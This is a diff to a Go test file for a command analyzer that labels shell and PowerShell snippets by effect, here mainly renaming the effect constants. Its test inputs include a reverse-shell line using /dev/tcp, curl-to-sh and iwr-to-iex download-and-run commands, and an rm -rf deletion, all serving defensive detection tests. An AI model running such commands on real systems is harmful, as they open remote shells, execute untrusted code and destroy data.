@@ -74,15 +74,15 @@ func TestEitherShell(t *testing.T) {
 		"'a' -match 'b'\nbash -i >& /dev/tcp/10.1.2.3/4 0>&1": effect.RemoteShell,
 		"\"a b `curl http://k.test/a | sh`\"":                 effect.RunDownload,
 		"ls\n$a = Get-Item b\nrm -rf c":                       effect.DeleteFile,
-		"class A { }\n$CMD":                                   effect.Dynamic,
-		"class A { }; x=$(cat f); $x = 3":                     effect.Dynamic,
-		"try { a }\neval \"$(cat f)\"":                        effect.Dynamic,
-		"'a' -match 'b'; $CMD":                                effect.Dynamic,
-		"'a' -match $CMD | sh":                                effect.Dynamic,
-		"ls\n$a = Get-Item b\n& $p":                           effect.Dynamic,
+		"class A { }\n$CMD":                                   effect.UnknownEffect,
+		"class A { }; x=$(cat f); $x = 3":                     effect.UnknownEffect,
+		"try { a }\neval \"$(cat f)\"":                        effect.UnknownEffect,
+		"'a' -match 'b'; $CMD":                                effect.UnknownEffect,
+		"'a' -match $CMD | sh":                                effect.UnknownEffect,
+		"ls\n$a = Get-Item b\n& $p":                           effect.UnknownEffect,
 	} {
 		r := Analyze(text, here())
-		if want == "" && (has(r, effect.Dynamic) || has(r, effect.RunInput)) || want != "" && !has(r, want) {
+		if want == "" && (has(r, effect.UnknownEffect) || has(r, effect.RunOtherCommandOutput)) || want != "" && !has(r, want) {
 			t.Errorf("%q: want %q\n%s", text, want, list(r))
 		}
 	}
@@ -98,7 +98,7 @@ func TestComparesFiles(t *testing.T) {
 		"fc /opt/a.sh b.sh": false, "fc a.txt $b": false, "fc a.txt b.txt c.txt": false, "fc -e a.txt b.txt": false,
 	} {
 		r := Analyze(text, here())
-		if has(r, effect.Dynamic) == compares || has(r, effect.ReadFile) != compares {
+		if has(r, effect.UnknownEffect) == compares || has(r, effect.ReadFile) != compares {
 			t.Errorf("%q: want it to compare: %t\n%s", text, compares, list(r))
 		}
 	}
@@ -116,17 +116,17 @@ func TestPartlyKnownPowerShell(t *testing.T) {
 		`pwsh -Command "Remove-Item '$USER/x'"`:       effect.DeleteFile,
 		`pwsh -Command "Remove-Item a; echo $X"`:      effect.DeleteFile,
 		`pwsh -Command "iwr http://k.test/$X | iex"`:  effect.RunDownload,
-		`pwsh -Command "echo $X"`:                     effect.Dynamic,
-		`pwsh -Command "$X"`:                          effect.Dynamic,
-		`pwsh -Command "$USER x"`:                     effect.Dynamic,
-		`pwsh -Command "& '$USER'"`:                   effect.Dynamic,
-		`pwsh -Command "iex '$USER'"`:                 effect.Dynamic,
-		`pwsh -Command "Write-Host a; $USER"`:         effect.Dynamic,
-		`pwsh -Command "Write-Host $(cat f)"`:         effect.RunInput,
+		`pwsh -Command "echo $X"`:                     effect.UnknownEffect,
+		`pwsh -Command "$X"`:                          effect.UnknownEffect,
+		`pwsh -Command "$USER x"`:                     effect.UnknownEffect,
+		`pwsh -Command "& '$USER'"`:                   effect.UnknownEffect,
+		`pwsh -Command "iex '$USER'"`:                 effect.UnknownEffect,
+		`pwsh -Command "Write-Host a; $USER"`:         effect.UnknownEffect,
+		`pwsh -Command "Write-Host $(cat f)"`:         effect.RunOtherCommandOutput,
 		`pwsh -Command "Write-Host $(curl k.test/a)"`: effect.RunDownload,
 	} {
 		r := Analyze(text, here())
-		if want == "" && (has(r, effect.Dynamic) || has(r, effect.RunInput)) || want != "" && !has(r, want) {
+		if want == "" && (has(r, effect.UnknownEffect) || has(r, effect.RunOtherCommandOutput)) || want != "" && !has(r, want) {
 			t.Errorf("%q: want %q\n%s", text, want, list(r))
 		}
 	}
